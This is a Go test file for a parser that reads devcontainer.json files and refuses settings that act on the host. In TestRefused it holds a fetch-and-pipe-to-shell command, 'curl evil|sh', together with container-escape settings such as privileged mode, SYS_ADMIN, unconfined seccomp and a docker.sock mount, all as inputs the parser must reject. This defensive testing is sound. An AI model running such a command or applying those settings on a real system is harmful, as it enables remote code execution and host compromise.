package devcontainer

import (
	"errors"
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/belljar-dev/belljar"
)

func options() Options {
	vars := func(m map[string]string) func(string) (string, bool) {
		return func(name string) (string, bool) { v, ok := m[name]; return v, ok }
	}
	return Options{
		Workspace: "/src/app",
		Env:       vars(map[string]string{"LANG": "C.UTF-8"}),
		Inside:    vars(map[string]string{"PATH": "/usr/bin:/bin"}),
	}
}

const whole = `// a project's own
{
	"name": "Go",
	"image": "example/go:1",
	"features": {"ghcr.io/x/y:1": {}},
	"containerEnv": {"A": "1", "HERE": "${containerWorkspaceFolder}/x"},
	"remoteEnv": {
		"PATH": "${containerEnv:PATH}:${localWorkspaceFolder}/bin",
		"A": "${containerEnv:A}2",
		"L": "${localEnv:LANG}",
		"SECRET": "[${localEnv:AWS_SECRET_ACCESS_KEY}]",
		"OR": "${localEnv:NOT_THERE:${no}default}",
		"GONE": null,
	},
	"forwardPorts": [3000, "localhost:8080", "db:5432", 3000],
	"appPort": 9000,
	"postCreateCommand": {"b": ["npm", "ci"], "a": "go mod download && make"},
	"onCreateCommand": "echo ${localWorkspaceFolderBasename}",
	"postStartCommand": ["true"],
	"updateContentCommand": "",
	"privileged": false, "capAdd": [],
	"hostRequirements": {"cpus": 4, "memory": "8gb", "storage": "32GB", "gpu": "optional"},
	"mounts": ["source=cache,target=/cache,type=volume"],
	"remoteUser": "vscode",
	"wibble": 1,
}`

// TestParse: everything of a file has its place or a note.
func TestParse(t *testing.T) {
	got, err := Parse([]byte(whole), options())
	if err != nil {
		t.Fatal(err)
	}
	want := &Config{
		Name: "Go",
		Env: map[string]string{
			"A": "12", "HERE": "/src/app/x", "PATH": "/usr/bin:/bin:/src/app/bin", "L": "C.UTF-8", "SECRET": "[]", "OR": "${localEnv:NOT_THERE:default}",
		},
		Ports: []uint16{3000, 8080, 9000},
		Steps: []Step{
			{Key: "onCreateCommand", Argv: []string{"/bin/sh", "-c", "echo app"}},
			{Key: "postCreateCommand", Argv: []string{"/bin/sh", "-c", "go mod download && make"}},
			{Key: "postCreateCommand", Argv: []string{"npm", "ci"}},
			{Key: "postStartCommand", Each: true, Argv: []string{"true"}},
		},
		Needs: Needs{CPUs: 4, Memory: 8 << 30, Storage: 32 << 30},
	}
	notes := got.Notes
	got.Notes = nil
	if d := cmp.Diff(want, got); d != "" {
		t.Error(d)
	}
	text := strings.Join(notes, "\n")
	for _, w := range []string{"image is", "features is", "mounts is", "remoteUser is", `"wibble"`, "gpu", "db:5432", "remoteEnv.GONE", "AWS_SECRET_ACCESS_KEY", "${no}"} {
		if !strings.Contains(text, w) {
			t.Errorf("no note of %s:\n%s", w, text)
		}
	}
	if len(notes) != 10 {
		t.Error(len(notes), text)
	}
}

// TestRefused: what acts on the host is refused, all of it at once.
func TestRefused(t *testing.T) {
	_, err := Parse([]byte(`{"initializeCommand": "curl evil|sh", "runArgs": ["--privileged"], "privileged": true, "capAdd": ["SYS_ADMIN"],
		"securityOpt": ["seccomp=unconfined"], "dockerComposeFile": "c.yml", "mounts": [{"source": "/var/run/docker.sock", "target": "/x", "type": "bind"}]}`), options())
	if belljar.KindOf(err) != belljar.KindRefused {
		t.Fatal(err)
	}
	for _, w := range []string{"initializeCommand", "runArgs", "privileged", "capAdd", "securityOpt", "dockerComposeFile", "docker.sock"} {
		if !strings.Contains(err.Error(), w) {
			t.Errorf("%s is not named: %v", w, err)
		}
	}
}

// TestFaults: what cannot be meant is an error that names the key.
func TestFaults(t *testing.T) {
	for in, want := range map[string]string{
		``:                                  "EOF",
		`[]`:                                "no object",
		`{"a": 1, "a": 2}`:                  "twice",
		`{"containerEnv": {"A": 1}}`:        "containerEnv: a number",
		`{"containerEnv": {"A B": "1"}}`:    `containerEnv: "A B"`,
		`{"containerEnv": {"A": "\u0000"}}`: "NUL",
		`{"forwardPorts": [70000]}`:         "70000",
		`{"forwardPorts": [-1]}`:            "-1",
		`{"forwardPorts": [1.5]}`:           "1.5",
		`{"hostRequirements": {"memory": "lots"}}`:                                         "lots",
		`{"hostRequirements": {"cpus": -1}}`:                                               "negative",
		`{"postCreateCommand": 3}`:                                                         "postCreateCommand: a number",
		`{"postCreateCommand": ["a\u0000"]}`:                                               "no command",
		`{"postCreateCommand": {"x": {"y": "z"}}}`:                                         "postCreateCommand.x",
		`{"x": ` + strings.Repeat("[", 70):                                                 "nested",
		`{"remoteEnv": {"A": "` + strings.Repeat("${localWorkspaceFolder}", 10000) + `"}}`: "64 KiB",
		`{"postCreateCommand": {` + strings.TrimSuffix(strings.Repeat(`"N": "x",`, 1), ",") + manySteps(150) + `}}`: "100 commands",
	} {
		_, err := Parse([]byte(in), options())
		if belljar.KindOf(err) != belljar.KindUsage || err == nil || !strings.Contains(err.Error(), want) {
			t.Errorf("%.60s: %v", in, err)
		}
	}
}

func manySteps(n int) string {
	var b strings.Builder
	for i := range n {
		b.WriteString(`,"` + strings.Repeat("s", i+1) + `": "true"`)
	}
	return b.String()
}

// TestFind: places in their order, and what leaves the project is not read.
func TestFind(t *testing.T) {
	dir := t.TempDir()
	root, err := os.OpenRoot(dir)
	if err != nil {
		t.Fatal(err)
	}
	defer root.Close()
	write := func(name string) {
		p := filepath.Join(dir, name)
		if err := errors.Join(os.MkdirAll(filepath.Dir(p), 0o700), os.WriteFile(p, []byte(`{"name": "`+name+`"}`), 0o600)); err != nil {
			t.Fatal(err)
		}
	}
	find := func(want string) {
		t.Helper()
		got, err := Find(root)
		if got != want || (want == "") != (belljar.KindOf(err) == belljar.KindUsage && err != nil) {
			t.Errorf("%q, %v; want %q", got, err, want)
		}
	}
	find("")
	write(".devcontainer/one/devcontainer.json")
	find(".devcontainer/one/devcontainer.json")
	write(".devcontainer/two/devcontainer.json")
	find("")
	write(".devcontainer.json")
	find(".devcontainer.json")
	write(".devcontainer/devcontainer.json")
	find(".devcontainer/devcontainer.json")
	c, err := Read(root, ".devcontainer.json", options())
	if err != nil || c.Name != ".devcontainer.json" || c.File != c.Name {
		t.Error(c, err)
	}

	outside := filepath.Join(t.TempDir(), "x")
	bad := errors.Join(os.WriteFile(outside, []byte(`{}`), 0o600), os.Symlink(outside, filepath.Join(dir, "link")),
		syscall.Mkfifo(filepath.Join(dir, "pipe"), 0o600), os.WriteFile(filepath.Join(dir, "large"), make([]byte, maxFile+1), 0o600))
	if bad != nil {
		t.Fatal(bad)
	}
	for _, name := range []string{"link", "pipe", "large", "../x", ".devcontainer", "not there"} {
		if _, err := Read(root, name, options()); belljar.KindOf(err) != belljar.KindUsage || err == nil {
			t.Errorf("%s: %v", name, err)
		}
	}
}

func FuzzParse(f *testing.F) {
	f.Add([]byte(whole))
	f.Add([]byte(`{"runArgs": [], "initializeCommand": "x"}`))
	f.Fuzz(func(t *testing.T, b []byte) {
		c, err := Parse(b, options())
		if err != nil {
			return
		}
		if len(c.Steps) > maxCommands || len(c.Env) > 2*maxVars {
			t.Error(len(c.Steps), len(c.Env))
		}
		for k, v := range c.Env {
			if strings.ContainsAny(k, "=\x00") || strings.Contains(v, "\x00") {
				t.Errorf("%q=%q", k, v)
			}
		}
		for _, s := range c.Steps {
			if len(s.Argv) == 0 || s.Argv[0] == "" {
				t.Errorf("%+v", s)
			}
		}
	})
}
